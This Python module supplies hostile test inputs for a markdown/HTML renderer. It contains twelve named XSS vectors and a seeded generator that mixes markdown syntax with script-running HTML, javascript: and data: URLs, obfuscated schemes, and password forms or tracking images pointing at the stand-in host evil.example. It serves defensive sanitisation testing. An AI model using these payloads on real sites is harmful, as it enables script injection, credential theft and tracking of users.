"""Hostile texts for the rendering tests: the probe's vectors and a seeded generator of
markdown/HTML mixes. Every payload that could run sets ``window.__xss``; every fetch or link
goes to ``evil.example`` (or is a ``javascript:``/``data:`` URL), so a page is inert when the
flag stays unset and no attribute in the DOM names either."""

from __future__ import annotations

import random

EVIL = "evil.example"

# Each starts with its marker (Vn) so a test can wait for it to be shown.
VECTORS = {
    # A 4-backtick code-span opener with a 3-backtick close: no code span to the renderer.
    "four-backticks": "V1 ````<img src=x onerror=\"window.__xss=1\">```",
    # An escaped backtick does not open a code span.
    "escaped-backtick": "V2 \\`<img src=x onerror=\"window.__xss=2\">`",
    # An indented fence is an indented code block; the HTML line after it is HTML.
    "indented-fence": "V3\n\n    ```\n<img src=x onerror=\"window.__xss=3\">\n    ```",
    # A "code span" that is no code span (1-backtick open, 2-backtick close) holding an image.
    "code-span-image": "V4 `![x](http://evil.example/v4.png)``",
    "svg-javascript-link": ("V5 ````<svg width=200 height=40><a href=\"javascript:window.__xss=5\">"
                            "<text x=5 y=20>click V5</text></a></svg>```"),
    "remote-img": "V6 ````<img src=\"http://evil.example/v6.png\" srcset=\"http://evil.example/v6b.png 2x\">```",
    "style-url": "V7 ````<span style=\"background:url(http://evil.example/v7.png)\">styled V7</span>```",
    "form-password": ("V8 ````<form action=\"http://evil.example/v8\"><input type=password name=p>"
                      "<button>log in</button></form>```"),
    "markdown-remote-image": "V9 ![tracker](http://evil.example/v9.png) and ![t2](//evil.example/v9b.png)",
    "javascript-link": "V10 [click V10](javascript:window.__xss=10) and <javascript:window.__xss=10>",
    "data-urls": ("V11 [d](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTE8L3NjcmlwdD4=) "
                  "![d](data:image/svg+xml,%3Csvg%20onload%3D%22window.__xss%3D11%22%3E) "
                  "````<a href=\"data:text/html,<script>window.__xss=11</script>\">data V11</a>```"),
    "plain-html": "V12 <img src=x onerror=\"window.__xss=12\"> <b>bold?</b> <a href=\"http://evil.example/v12\">a</a>",
}
JOINED = "\n\n".join(VECTORS.values())

# Pieces for the generator: markdown syntax that shifts where code starts and ends, and HTML
# and URLs that would run or fetch.
_SYNTAX = ["`", "``", "```", "````", "~~~", "\\`", "\\", "    ", "\t", "\n", "\n\n", "> ", "- ", "1. ",
           "* ", "**", "_", "|", "| --- |", "#", "<!--", "-->", "<![CDATA[", "]]>", "&", "&#", ";",
           "[", "]", "(", ")", "!", "<", ">", "\"", "'", "=", "$$", "```mermaid\n", "```html\n"]
_HTML = [
    "<img src=x onerror=window.__xss=101>", "<img src=\"http://evil.example/g.png\">",
    "<svg><a href=\"javascript:window.__xss=102\"><text>x</text></a></svg>",
    "<svg onload=window.__xss=103>", "<math><mi xlink:href=\"javascript:window.__xss=104\">m</mi></math>",
    "<a href=\"javascript:window.__xss=105\">j</a>", "<a href=\"jav&#x09;ascript:window.__xss=106\">j</a>",
    "<a href=\"&#106;avascript:window.__xss=107\">j</a>", "<a href=\"//evil.example/x\">p</a>",
    "<a href=\"data:text/html,<script>window.__xss=108</script>\">d</a>",
    "<iframe src=\"http://evil.example/f\"></iframe>", "<iframe srcdoc=\"<script>parent.__xss=109</script>\">",
    "<script>window.__xss=110</script>", "<style>body{background:url(http://evil.example/s.png)}</style>",
    "<div style=\"background-image:url('http://evil.example/st.png')\">s</div>",
    "<form action=\"http://evil.example/f\"><input type=password></form>", "<input type=password>",
    "<button formaction=\"http://evil.example/b\">b</button>", "<object data=\"http://evil.example/o\"></object>",
    "<embed src=\"http://evil.example/e\">", "<video poster=\"http://evil.example/p.png\"></video>",
    "<link rel=stylesheet href=\"http://evil.example/l.css\">", "<meta http-equiv=refresh content=\"0;url=http://evil.example\">",
    "<base href=\"http://evil.example/\">", "<details open ontoggle=window.__xss=111>",
    "<picture><source srcset=\"http://evil.example/ss.png\"></picture>", "<table background=\"http://evil.example/t.png\">",
    "<img src=\"data:image/svg+xml,<svg onload=window.__xss=112>\">", "<template><img src=x onerror=window.__xss=113></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=114>\"></noscript>",
]
_MARKDOWN = [
    "![i](http://evil.example/m.png)", "![i](data:image/png;base64,iVBORw0KGgo=)", "[l](javascript:window.__xss=201)",
    "[l](JaVaScRiPt:window.__xss=202)", "[l](http://evil.example/l)", "<http://evil.example/auto>", "http://evil.example/bare",
    "www.evil.example", "[r]: http://evil.example/ref\n\n[r]", "![r][img]\n\n[img]: http://evil.example/refimg.png",
    "[l](<javascript:window.__xss=203>)", "[l](data:text/html,<script>window.__xss=204</script>)",
    "`code <img src=x onerror=window.__xss=205>`", "```\n<img src=x onerror=window.__xss=206>\n```",
    "| a | <img src=x onerror=window.__xss=207> |\n| - | - |\n| 1 | 2 |",
    "$$\\href{javascript:window.__xss=208}{x}$$",
]
_TEXT = ["hello", "a < b", "x > y", "1 & 2", "emoji 🧪", "**bold**", "*it*", "~~del~~", "# head", "plain"]


def generate(rng: random.Random, pieces: int = 8) -> str:
    """One hostile markdown/HTML mix."""
    parts = []
    for _ in range(rng.randint(1, pieces)):
        pool = rng.choice((_SYNTAX, _SYNTAX, _HTML, _MARKDOWN, _TEXT))
        parts.append(rng.choice(pool))
        parts.append(rng.choice(("", "", " ", "\n", "\n\n", "    ")))
    return "".join(parts)


def corpus(n: int, seed: int = 17) -> list[str]:
    rng = random.Random(seed)
    return [generate(rng) for _ in range(n)]
